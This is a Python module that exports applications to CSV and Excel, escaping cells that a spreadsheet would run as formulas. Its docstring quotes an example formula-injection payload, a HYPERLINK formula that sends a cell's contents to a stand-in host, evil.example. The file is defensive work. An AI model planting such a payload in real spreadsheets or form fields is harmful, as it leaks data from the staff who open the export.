"""Applications as a table: CSV and Excel (openpyxl) bytes with the same rows.

Every cell is data, never a formula. Applicants type their own name, and a name such as
`=HYPERLINK("http://evil.example/?x="&A1,"Click")` would otherwise run when staff open
the export (CSV or formula injection). CSV cells that a spreadsheet would read as a
formula get a leading single quote (OWASP's advice); Excel cells are written as text.
"""
from __future__ import annotations

import csv
import io
import re
import unicodedata
from datetime import UTC, datetime

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

# What spreadsheets take as the start of a formula. Tab and carriage return too: some
# programs strip leading whitespace and then evaluate what follows.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A signed number and nothing else ("+77011234567", "-12.5"): a spreadsheet reads it as a
# constant, so it cannot call anything, and the phone column stays as typed.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def formula_like(value: str) -> bool:
    """Would a spreadsheet evaluate this text as a formula?"""
    return value.startswith(FORMULA_STARTS) and _PLAIN_NUMBER.fullmatch(value) is None


def no_emoji(text: str) -> str:
    """The text without pictographs (a label's "👤 "): spreadsheets sort and filter on words."""
    kept = "".join(c for c in text if unicodedata.category(c) != "So"
                   and c not in "\ufe0f\u200d")
    return " ".join(kept.split())


def csv_cell(value: object) -> object:
    """The value as it may go into a CSV cell: text that would be a formula gets a leading
    quote; numbers (int, float) are left alone, negative ones included; a moment is written
    as ISO date and time (a spreadsheet reads it as one), a yes/no as TRUE/FALSE."""
    if isinstance(value, str) and formula_like(value):
        return "'" + value
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    return value


def to_csv(header: list[str], rows: list[list[object]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([csv_cell(v) for v in header])
    writer.writerows([csv_cell(v) for v in row] for row in rows)
    return buffer.getvalue().encode("utf-8-sig")  # the BOM makes Excel read UTF-8 right


def _xlsx_cell(sheet: Worksheet, value: object) -> object:
    """openpyxl stores any text starting with "=" as a formula: such text (and anything else
    formula-like) becomes an explicit text cell, marked with Excel's quote prefix so that
    editing it later does not turn it into a formula either."""
    if isinstance(value, str) and formula_like(value):
        cell = Cell(sheet, value=value)
        cell.data_type = "s"
        cell.quotePrefix = True
        return cell
    return value


Sheet = tuple[str, list[str], list[list[object]]]  # title, header, rows


def to_xlsx(header: list[str], rows: list[list[object]], title: str, created: datetime,
            extra_sheets: tuple[Sheet, ...] = ()) -> bytes:
    """`created` (the export's time) goes into the file's properties, where openpyxl would
    otherwise read the system clock (it still stamps `modified` when saving)."""
    book = Workbook()
    # The properties are written as UTC ("…Z") and must be naive.
    when = created if created.tzinfo is None else created.astimezone(UTC).replace(tzinfo=None)
    book.properties.created = when
    sheet = book.active
    sheet.title = title[:31]  # Excel's limit for sheet names
    sheet.append([_xlsx_cell(sheet, v) for v in header])
    for row in rows:
        sheet.append([_xlsx_cell(sheet, v) for v in row])
    _format_moments(sheet)
    sheet.freeze_panes = "A2"
    for column in sheet.columns:
        width = max(len(str(cell.value or "")) for cell in column)
        sheet.column_dimensions[column[0].column_letter].width = min(40, max(10, width + 2))
    for extra_title, extra_header, extra_rows in extra_sheets:
        extra = book.create_sheet(extra_title[:31])
        extra.append([_xlsx_cell(extra, v) for v in extra_header])
        for row in extra_rows:
            extra.append([_xlsx_cell(extra, v) for v in row])
        extra.freeze_panes = "A2"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _format_moments(sheet: Worksheet) -> None:
    """Dates and times as Kazakhstan writes them (they stay date cells)."""
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, datetime):
                cell.number_format = "DD.MM.YYYY HH:MM"
